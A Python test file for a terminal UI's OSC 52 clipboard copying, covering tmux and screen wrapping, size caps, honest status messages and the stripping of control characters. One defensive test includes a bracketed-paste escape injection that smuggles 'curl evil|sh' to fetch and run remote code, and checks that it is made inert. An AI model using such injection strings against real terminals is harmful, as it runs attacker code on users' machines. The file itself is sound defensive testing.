"""Copies: what reaches the terminal on the desk, and words that claim no more than was done."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iamtui.ui.clipboard import CAP, osc52
from tests.support.hosts import HOSTILE

PLAIN = {"TERM": "xterm-256color"}
ENVIRONMENTS = {
    "plain": PLAIN,
    "tmux": {"TERM": "tmux-256color", "TMUX": "/tmp/tmux-1000/default,1,0"},
    "tmux over ssh": {"TERM": "tmux-256color", "SSH_TTY": "/dev/pts/1"},
    "screen": {"TERM": "screen", "STY": "1.pts-0"},
    "screen over ssh": {"TERM": "screen-256color", "SSH_TTY": "/dev/pts/1"},
}
_OSC = re.compile("\x1b\\]52;c;([A-Za-z0-9+/=]*)\x07")


def unwrapped(sequence: str, environment: str) -> list[str]:
    """What the terminal behind tmux or screen is given: every text it would put on its clipboard."""
    if environment.startswith("tmux"):
        bare, wrapped = re.fullmatch("(.*?)\x1bPtmux;(.*)\x1b\\\\", sequence, re.S).groups()
        sequence = bare + wrapped.replace("\x1b\x1b", "\x1b")
    elif environment.startswith("screen"):
        pieces = re.findall("\x1bP(.*?)\x1b\\\\", sequence, re.S)
        assert all(len(piece) <= 76 for piece in pieces)
        assert "".join(f"\x1bP{piece}\x1b\\" for piece in pieces) == sequence
        sequence = "".join(pieces)
    assert _OSC.sub("", sequence) == ""
    return [base64.b64decode(body).decode() for body in _OSC.findall(sequence)]


@pytest.mark.parametrize("environment", ENVIRONMENTS)
@pytest.mark.parametrize("text", ["arn:aws:iam::123456789012:user/ops-admin", "漢字 é", "a\n\tb\n", "x" * 5000])
def test_the_text_arrives_whole_through_every_wrapping(environment: str, text: str) -> None:
    copied = osc52(text, ENVIRONMENTS[environment])
    assert copied.sent
    arrived = unwrapped(copied.sequence, environment)
    assert set(arrived) == {text}
    assert len(arrived) == (2 if environment.startswith("tmux") else 1)
    assert f"{len(text):,} characters" in copied.words


def test_the_words_promise_sending_and_not_arriving() -> None:
    words = osc52("x", PLAIN).words
    assert words.startswith("Sent ")
    assert "copied" not in words.casefold()


@given(st.text(max_size=300))
def test_nothing_a_shell_would_obey_comes_out_of_a_paste(text: str) -> None:
    copied = osc52(text, PLAIN)
    for arrived in unwrapped(copied.sequence, "plain"):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", arrived)


@pytest.mark.parametrize("text", [text for text in HOSTILE if text])
def test_hostile_text_is_copied_inert(text: str) -> None:
    arrived = unwrapped(osc52(text, PLAIN).sequence, "plain")
    assert len(arrived) == 1
    assert "\x1b" not in arrived[0]
    assert "\x9b" not in arrived[0]


def test_bracketed_paste_cannot_be_ended_from_inside() -> None:
    assert unwrapped(osc52("name\x1b[201~\rcurl evil|sh\r", PLAIN).sequence, "plain") == ["name␛[201~␍curl evil|sh␍"]


@pytest.mark.parametrize(("size", "sent"), [(CAP, True), (CAP + 1, False)])
def test_the_cap_is_kept_in_bytes_and_said(size: int, sent: bool) -> None:
    copied = osc52("x" * size, PLAIN)
    assert copied.sent is sent
    assert bool(copied.sequence) is sent
    if sent:
        assert len(copied.sequence) <= 100_000
    else:
        assert f"{size:,} bytes" in copied.words
        assert "file" in copied.words
    assert not osc52("漢" * (size // 3 + 1), PLAIN).sent


def test_a_cap_of_ones_own() -> None:
    assert not osc52("12345", PLAIN, cap=4).sent


@pytest.mark.parametrize("environ", [{"TERM_PROGRAM": "Apple_Terminal"}, {"TERM": "linux"}, {"TERM": "dumb"}])
def test_a_terminal_that_takes_no_copies_is_named_and_nothing_is_sent(environ: dict[str, str]) -> None:
    copied = osc52("x", environ)
    assert (copied.sequence, copied.sent) == ("", False)
    assert "terminal" in copied.words
    assert "file" in copied.words


def test_nothing_is_said_to_be_nothing() -> None:
    assert osc52("", PLAIN) == ("", "Nothing to copy here", False)
